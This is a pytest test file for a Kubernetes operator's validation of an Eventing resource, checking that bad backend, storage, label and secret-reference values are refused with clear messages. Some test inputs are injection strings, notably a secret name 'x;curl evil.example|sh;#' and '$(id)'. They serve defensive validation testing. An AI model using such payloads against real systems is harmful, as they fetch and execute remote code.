"""The API server refuses a bad Eventing and says what is allowed."""

import json
import re

import pytest
from manager_builders import NAMESPACE, eventing

from eventing_manager.act.chart import ChartRenderer, chart_values
from eventing_manager.act.credentials import Credentials
from eventing_manager.api.names import EVENTING
from eventing_manager.api.spec import EventingSpec, NatsSettings
from kubeloop.errors import InvalidError
from kubeloop.kinds import CRD

CREDENTIALS = Credentials(user="eventing", password="p")


def of_secret(**changes):
    reference = {"name": "eventing-backend", "namespace": "kyma-system", **changes}
    return {"backend": {"type": "eventmesh", "eventmesh": {"secretRef": reference}}}


def of_nats(**settings):
    return {"backend": {"type": "nats", "nats": settings}}


@pytest.mark.parametrize(
    ("spec", "sentence"),
    [
        ({}, 'spec.backend.type is required; set it to "nats" or "eventmesh"'),
        ({"backend": {}}, 'spec.backend.type is required; set it to "nats" or "eventmesh"'),
        ({"backend": {"type": "kafka"}}, 'Unsupported value: "kafka": supported values: "nats", "eventmesh"'),
        ({"backend": {"type": "nats", "nats": {"replicas": 2}}}, "must be 1, 3 or 5"),
        ({"backend": {"type": "nats", "nats": {"replicas": 7}}}, "must be 1, 3 or 5"),
        (
            {"backend": {"type": "nats", "nats": {"storage": {"type": "tape"}}}},
            'supported values: "file", "memory"',
        ),
        (
            {"backend": {"type": "nats", "nats": {"storage": {"size": "much"}}}},
            'must be a quantity between 1Mi and 100Ti, such as 1Gi, not "much"',
        ),
        (
            {"backend": {"type": "nats", "nats": {"storage": {"reclaimPolicy": "Recycle"}}}},
            'supported values: "Delete", "Retain"',
        ),
        (
            {"backend": {"type": "nats", "nats": {"onUndelivered": "Panic"}}},
            'supported values: "Wait", "Discard"',
        ),
        (
            {"backend": {"type": "nats", "nats": {"labels": {"app.kubernetes.io/name": "x"}}}},
            "are the manager's own",
        ),
        ({"backend": {"type": "nats", "nats": {"annotations": {"no spaces": "x"}}}}, "a key must be a name"),
        ({"backend": {"type": "eventmesh", "eventmesh": {"secretRef": {"name": "s"}}}}, "Required value"),
        ({"backend": {"type": "nats"}, "logLevel": "loud"}, 'supported values: "debug", "info"'),
        (
            of_secret(name="kyma-system/eventing-backend"),
            "be the name of a Secret, of lower-case letters, digits, ",
        ),
        (of_secret(name="x;curl evil.example|sh;#"), 'dashes and dots, not "x;curl evil.example|sh;#"'),
        (of_secret(name="a\nb"), 'dashes and dots, not "a\\nb"'),
        (
            of_secret(name=""),
            'must be the name of a Secret, of lower-case letters, digits, dashes and dots, not ""',
        ),
        (of_secret(name="a..b"), 'not "a..b"'),
        (of_secret(name="a-.b"), 'not "a-.b"'),
        (of_secret(name="x" * 254), "may not be more than 253"),
        (
            of_secret(namespace="shop/mesh"),
            'a namespace, of lower-case letters, digits and dashes, not "shop/mesh"',
        ),
        (of_secret(namespace="a.b"), 'not "a.b"'),
        (of_secret(namespace="x" * 64), "may not be more than 63"),
        (
            of_nats(resources={"limits": {"cpu": "-1"}}),
            'must be a quantity of zero or more, such as 500m or 512Mi, not "-1"',
        ),
        (of_nats(resources={"limits": {"cpu": -1}}), 'not "-1"'),
        (of_nats(resources={"requests": {"memory": "1e999999"}}), 'not "1e999999"'),
        (of_nats(resources={"requests": {"memory": "1e99999999999"}}), 'not "1e99999999999"'),
        (of_nats(resources={"requests": {"memory": "1e-99999999999"}}), 'not "1e-99999999999"'),
        (of_nats(resources={"limits": {"memory": "1Gi "}}), 'not "1Gi "'),
        (of_nats(resources={"limits": {"memory": ""}}), 'not ""'),
        (of_nats(resources={"limits": {"memory": "1" * 33}}), "may not be more than 32"),
        (of_nats(resources={"limits": {"memory": 1.5}}), 'must be of type integer,string: "number"'),
        (
            of_nats(resources={"limits": {"gpu.example/card": 1}}),
            "must be of cpu, memory and ephemeral-storage",
        ),
        (of_nats(labels={"a": "not allowed"}), 'a letter or digit first and last, not "not allowed"'),
        (of_nats(labels={"a": "-a"}), 'not "-a"'),
        (of_nats(labels={"a": "a/b"}), 'not "a/b"'),
        (of_nats(labels={"a": "a\n"}), 'not "a\\n"'),
        (of_nats(labels={"a": "x" * 64}), "may not be more than 63"),
        (of_nats(labels={"a..b/c": "x"}), "a key must be a name of at most 63"),
        (of_nats(labels={f"{'x' * 254}/c": "x"}), "a key must be a name of at most 63"),
        (of_nats(labels={f"a/{'c' * 64}": "x"}), "a key must be a name of at most 63"),
        (of_nats(labels={"": "x"}), "a key must be a name of at most 63"),
        (of_nats(labels={"a\n": "x"}), "a key must be a name of at most 63"),
        (of_nats(labels={"sidecar.istio.io/inject": "true"}), "are the manager's own"),
        (of_nats(annotations={"checksum/auth": "x"}), "are the manager's own"),
        (of_nats(annotations={"eventing-manager.kyma-project.io/draining": "true"}), "are the manager's own"),
        (of_nats(annotations={"a": "x" * 4097}), "may not be more than 4096"),
        (
            of_nats(annotations={f"a{number}": "ü" * 4096 for number in range(31)}),
            "more than 250000 bytes together",
        ),
        (of_nats(annotations={f"a{number}": "" for number in range(33)}), "must have at most 32 items"),
    ],
)
async def test_a_bad_eventing_is_refused_with_a_sentence(client, spec, sentence):
    with pytest.raises(InvalidError) as refusal:
        await client.create(eventing(spec=spec), dry_run=True)

    assert sentence in str(refusal.value)


@pytest.mark.parametrize(
    "size",
    [
        "0", "-1Gi", "0.5", "", " 1Gi", "1Gi\n", "1GI", "0x10", "1,5Gi", "१Gi", "1023Ki", "1048575",
        "101Ti", "1Ei", "1e20", "1e5000", "1e999999", "1e99999999999", "1e-99999999999", "1e+0000000009",
        "1" * 32,
    ],
)  # fmt: skip
async def test_a_size_that_no_volume_can_have_is_refused_and_shown(client, size):
    with pytest.raises(InvalidError) as refusal:
        await client.create(eventing(storage={"size": size}), dry_run=True)

    shown = json.dumps(size, ensure_ascii=False)
    assert f"must be a quantity between 1Mi and 100Ti, such as 1Gi, not {shown}" in str(refusal.value)


async def test_a_size_that_is_too_long_to_be_shown_is_refused(client):
    with pytest.raises(InvalidError, match=r"storage\.size: Too long: may not be more than 32"):
        await client.create(eventing(storage={"size": "1" * 300}), dry_run=True)


@pytest.mark.parametrize(
    "size", ["1Mi", "100Ti", "1.5Gi", ".5Gi", "+1Gi", "1e9", "1E9", "1e12", "1048576", "1100000000m"]
)
async def test_a_size_is_a_quantity_as_kubernetes_writes_it(client, size):
    created = await client.create(eventing(storage={"size": size}), dry_run=True)

    assert (
        2**20 <= NatsSettings.parse(created["spec"]["backend"]["nats"]).storage.size_in_bytes <= 100 * 2**40
    )


STRINGS = [
    "", " ", "a/b", "a/b/c", "/a", "a/", "a\nb", "a\n", 'a"b', "a'b", "a\\b", "x" * 300, "-", ".", "_", "..",
    "a b", "A", "1", "true", "null", "~", "<<", "1e3", "1e999999", "1e-99999999", "ü", "\u200b", "\x00",
    "\x7f", "\u2028", "$(id)", "`id`", "{{ .Values }}", "nats", "file", "Wait",
]  # fmt: skip
PLACES = {
    "backend.type": lambda text: {"backend": {"type": text}},
    "logLevel": lambda text: {"backend": {"type": "nats"}, "logLevel": text},
    "storage.type": lambda text: of_nats(storage={"type": text}),
    "storage.size": lambda text: of_nats(storage={"size": text}),
    "storage.reclaimPolicy": lambda text: of_nats(storage={"reclaimPolicy": text}),
    "nats.onUndelivered": lambda text: of_nats(onUndelivered=text),
    "resources.limits": lambda text: of_nats(resources={"limits": {text: 1}}),
    "resources.limits.memory": lambda text: of_nats(resources={"limits": {"memory": text}}),
    "resources.requests": lambda text: of_nats(resources={"requests": {text: 1}}),
    "resources.requests.cpu": lambda text: of_nats(resources={"requests": {"cpu": text}}),
    "nats.labels": lambda text: of_nats(labels={text: "a"}),
    "nats.labels.a": lambda text: of_nats(labels={"a": text}),
    "nats.annotations": lambda text: of_nats(annotations={text: "a"}),
    "nats.annotations.a": lambda text: of_nats(annotations={"a": text}),
    "secretRef.name": lambda text: of_secret(name=text),
    "secretRef.namespace": lambda text: of_secret(namespace=text),
}


@pytest.mark.parametrize("place", PLACES)
async def test_every_string_is_refused_where_it_stands_or_is_legal_in_what_becomes_of_it(
    client, helm, backend_chart, place
):
    renderer = ChartRenderer(helm=helm, chart=backend_chart, release="eventing", namespace=NAMESPACE)
    refused, accepted = [], []
    for text in STRINGS:
        try:
            created = await client.create(eventing(spec=PLACES[place](text)), dry_run=True)
        except InvalidError as refusal:
            said = re.sub(r"\[(\w+)\]", r".\1", str(refusal))
            assert f"{place}: " in said
            refused.append(text)
            continue
        accepted.append(text)
        spec = EventingSpec.parse(created)
        for obj in await renderer.render(chart_values(spec, credentials=CREDENTIALS)):
            await client.create(obj, dry_run=True)
        if spec.secret is not None:
            secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": spec.secret.name}}
            secret["metadata"]["namespace"] = NAMESPACE
            await client.create(secret, dry_run=True)

    assert refused or place == "nats.annotations.a", "any text may be the value of an annotation"
    assert set(accepted) | set(refused) == set(STRINGS)


async def test_what_is_left_out_of_nats_is_filled_in_and_nothing_else(client):
    bare = await client.create(eventing(), dry_run=True)
    partly = await client.create(eventing(replicas=3), dry_run=True)

    assert bare["spec"] == {"backend": {"type": "nats"}}
    assert partly["spec"]["backend"]["nats"] == {
        "replicas": 3,
        "onUndelivered": "Wait",
        "storage": {"type": "file", "size": "1Gi", "reclaimPolicy": "Delete"},
    }


@pytest.mark.parametrize(
    ("before", "after", "sentence"),
    [
        (
            {"type": "nats"},
            {"type": "nats", "nats": {"storage": {"type": "memory"}}},
            "messages would be lost",
        ),
        ({"type": "nats"}, {"type": "nats", "nats": {"storage": {"size": "2Gi"}}}, "cannot resize"),
        (
            {"type": "nats", "nats": {"storage": {"size": "2Gi"}}},
            {"type": "nats"},
            "cannot resize",
        ),
        ({"type": "nats"}, {"type": "nats", "nats": {"replicas": 3}}, "switch to eventmesh first"),
        ({"type": "nats", "nats": {"replicas": 3}}, {"type": "nats"}, "switch to eventmesh first"),
        (
            {"type": "eventmesh", "nats": {"storage": {"size": "2Gi"}}},
            {"type": "nats", "nats": {"storage": {"size": "1Gi"}}},
            "cannot shrink",
        ),
    ],
)
async def test_storage_and_servers_that_are_in_use_cannot_change(client, before, after, sentence):
    created = await client.create(eventing(spec={"backend": before}))

    with pytest.raises(InvalidError) as refusal:
        await edit(client, created, after)

    assert sentence in str(refusal.value)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({"type": "nats"}, {"type": "nats", "nats": {"storage": {"size": "1024Mi"}}}),
        ({"type": "nats"}, {"type": "nats", "nats": {"replicas": 1}}),
        ({"type": "nats"}, {"type": "eventmesh", "nats": {"replicas": 3}}),
        ({"type": "eventmesh"}, {"type": "nats", "nats": {"storage": {"type": "memory"}, "replicas": 3}}),
        (
            {"type": "eventmesh", "nats": {"storage": {"size": "1Gi"}}},
            {"type": "eventmesh", "nats": {"storage": {"size": "2Gi"}}},
        ),
    ],
)
async def test_storage_and_servers_that_are_not_in_use_may_change(client, before, after):
    created = await client.create(eventing(spec={"backend": before}))

    edited = await edit(client, created, after)

    assert edited["metadata"]["generation"] == 2


async def edit(client, created, backend):
    name, namespace = created["metadata"]["name"], created["metadata"]["namespace"]
    patch = {"spec": {"backend": {"nats": None, **backend}}}
    return await client.merge_patch(EVENTING, name, patch, namespace=namespace)


async def test_kubectl_users_find_it_by_its_short_name_and_categories(client):
    crd = await client.get(CRD, "eventings.operator.kyma-project.io")

    names = crd["spec"]["names"]
    columns = [column["name"] for column in crd["spec"]["versions"][0]["additionalPrinterColumns"]]
    assert names["shortNames"] == ["evt"]
    assert names["categories"] == ["kyma-modules", "kyma-eventing"]
    assert columns == ["State", "Backend", "Age"]
    assert crd["metadata"]["labels"]["applyset.kubernetes.io/is-parent-type"] == "true"
